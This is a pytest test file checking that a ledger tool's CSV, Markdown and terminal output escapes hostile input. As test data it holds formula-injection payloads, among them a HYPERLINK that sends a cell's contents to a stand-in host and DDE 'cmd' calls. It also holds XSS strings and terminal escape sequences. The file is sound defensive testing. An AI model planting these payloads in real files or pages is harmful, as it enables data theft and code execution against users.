"""Hostile text from files, file names and git reaches no reader live: each output format
escapes it with its one function (output/escape.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import LI, Repo, RunCli, WriteLedger, item_yaml
from hypothesis import assume, given
from hypothesis import strategies as st

from huishang.output import escape

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert escape.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3", "12.5", "33%", "统一标准", "a=b", ""])
def test_numbers_and_ordinary_text_stay(text: str) -> None:
    assert escape.csv_cell(text) == text


def test_markdown_shows_html_and_links_as_written() -> None:
    assert escape.markdown("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert escape.markdown("[点我](javascript:alert(1))") == "\\[点我\\](javascript:alert(1))"
    assert escape.markdown("a | b\nc") == "a \\| b<br>c"


def test_terminal_writes_control_characters_out() -> None:
    assert escape.terminal("a\x1b]0;pwned\x07b\x9bc") == "a\\x1b]0;pwned\\x07b\\x9bc"
    assert escape.terminal("一\n二\t三") == "一 二 三"
    assert escape.terminal("普通文本 👩‍💻") == "普通文本 👩‍💻"


@pytest.fixture
def repo(write_ledger: WriteLedger) -> Repo:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(
        due="2024-06-30", updates="[{date: 2024-01-10, note: 已召开专题会议}]")})
    r = Repo(root)
    r.commit("meeting and item", LI, "2024-01-10")
    return r


@pytest.mark.parametrize("command", [["list"], ["warnings"], ["progress", "--by", "owner"]])
def test_every_csv_neutralises_formulas(run: RunCli, write_ledger: WriteLedger,
                                        command: list[str]) -> None:
    titles = [t for t in FORMULAS if not t.startswith(("\t", "\r"))]
    files = {f"items/m1/m1-{n:02d}.yaml": item_yaml(f"m1-{n:02d}", title=f"'{t.replace(chr(39), chr(39) * 2)}'",
                                                    owner=f"{{person: '{t.replace(chr(39), chr(39) * 2)}'}}")
             for n, t in enumerate(titles, 1)}
    root = write_ledger(files)
    result = run(*command, "--format", "csv", "--repo", str(root), "--today", "2024-01-05")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    found = [c for c in cells if c.lstrip("'") in titles or any(t in c for t in titles)]
    assert found  # the hostile text is there, as text
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or
                (c.startswith("-") and not c.lstrip("-").isdigit())]


def test_markdown_outputs_carry_no_raw_html(run: RunCli, repo: Repo, tmp_path: Path) -> None:
    hostile = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
    repo.write("items/m1/m1-01.yaml", text.replace("title: 统一量刑建议审查标准",
                                                   f"title: '{hostile}'"))
    repo.commit("hostile title", LI, "2024-02-02")
    listing = run("list", "--format", "markdown", "--repo", str(repo.root),
                  "--today", "2024-02-05").stdout
    bulletin = run("bulletin", "--month", "2024-02", "--repo", str(repo.root),
                   "--today", "2024-02-05").stdout
    for page in (listing, bulletin):
        assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in listing


def test_file_names_reach_the_terminal_written_out(run: RunCli,
                                                   write_ledger: WriteLedger) -> None:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(),
                         "items/m1/x\x1b[2J\x1b]0;pwned\x07.yml": "id: x\n"})
    result = run("validate", "--repo", str(root), "--lang", "en")
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "x\\x1b[2J\\x1b]0;pwned\\x07.yml" in result.stdout


def test_git_authors_and_subjects_reach_the_terminal_written_out(run: RunCli,
                                                                 repo: Repo) -> None:
    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
    repo.write("items/m1/m1-01.yaml", text.replace("已召开专题会议}]",
                                                   "已召开专题会议}, {date: 2024-02-03, note: 补充}]"))
    repo.commit("subject \x1b[31mred\x1b[0m", ("Mallory\x1b]0;x\x07", "m@x.example"),
                "2024-02-03")
    for command in (["history", "m1-01"], ["log", "--since", "2024-02-01"]):
        out = run(*command, "--repo", str(repo.root), "--today", "2024-02-05").stdout
        assert "\x1b" not in out and "\x07" not in out, command
        assert "Mallory\\x1b]0;x" in out and "subject \\x1b[31mred" in out  # git trims BEL


@pytest.mark.parametrize("command", [["bulletin", "--month", "2024-01"],
                                     ["site", "-o", "{out}/site"],
                                     ["export", "--ics", "-o", "{out}/x.ics"]])
def test_reports_say_what_they_leave_out(run: RunCli, write_ledger: WriteLedger,
                                         tmp_path: Path, command: list[str]) -> None:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(),
                         "items/m1/m1-02.yaml": item_yaml("m1-02", status="nonsense")})
    args = [a.replace("{out}", str(tmp_path)) for a in command]
    result = run(*args, "--repo", str(root), "--today", "2024-01-05", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith(
        "Note: 1 files have errors and are left out: items/m1/m1-02.yaml;")
    elsewhere = tmp_path / "strict"
    elsewhere.mkdir()
    args = [a.replace("{out}", str(elsewhere)) for a in command]
    strict = run(*args, "--strict", "--repo", str(root), "--today", "2024-01-05", "--lang", "en")
    assert strict.exit_code == 1
    assert "(--strict); nothing was written" in strict.stderr
    assert strict.stdout == "" and list(elsewhere.iterdir()) == []


def test_errors_reach_the_terminal_written_out(run: RunCli, tmp_path: Path) -> None:
    """Error messages quote paths and input: the one error handler escapes them."""
    result = run("validate", "--repo", str(tmp_path / "no\x1b[2Jsuch"), "--lang", "en")
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr
    assert result.stderr == f"huishang: no such folder: {tmp_path}/no\\x1b[2Jsuch\n"


# the characters that could make two texts print alike: the backslash and what follows it
# in a written-out character, the characters written out, and ordinary ones
_TRICKY = st.text(st.sampled_from(["\\", "x", "u", "1", "b", "f", "0", "2", "e", "a", " ",
                                   "\x1b", "\n", "\t", "\x7f", "\udcff", "\u202e", "名"]),
                  max_size=8)


@given(_TRICKY, _TRICKY)
def test_distinct_names_print_distinctly(one: str, other: str) -> None:
    assume(one != other)
    assert escape.name(one) != escape.name(other)
    assert escape.name(one).isprintable()


@given(_TRICKY.filter(lambda t: not set(t) & set("\n\r\t")),
       _TRICKY.filter(lambda t: not set(t) & set("\n\r\t")))
def test_distinct_texts_on_one_line_print_distinctly(one: str, other: str) -> None:
    assume(one != other)
    assert escape.terminal(one) != escape.terminal(other)


def test_a_backslash_is_doubled_only_where_it_could_be_misread() -> None:
    assert escape.terminal("\x1b") == "\\x1b"
    assert escape.terminal("\\x1b") == "\\\\x1b"
    assert escape.terminal("C:\\台账\\m1.yaml") == "C:\\台账\\m1.yaml"


@given(_TRICKY)
def test_a_text_spelling_out_anothers_printing_prints_differently(text: str) -> None:
    """The sharpest pair: a text, and the text of how it prints (`\\x1b` for ESC)."""
    spelled = escape.name(text)
    assume(spelled != text)
    assert escape.name(spelled) != spelled
    if not set(text) & set("\n\r\t"):  # on one line, a break is a space by design
        assert escape.terminal(spelled) != escape.terminal(text)
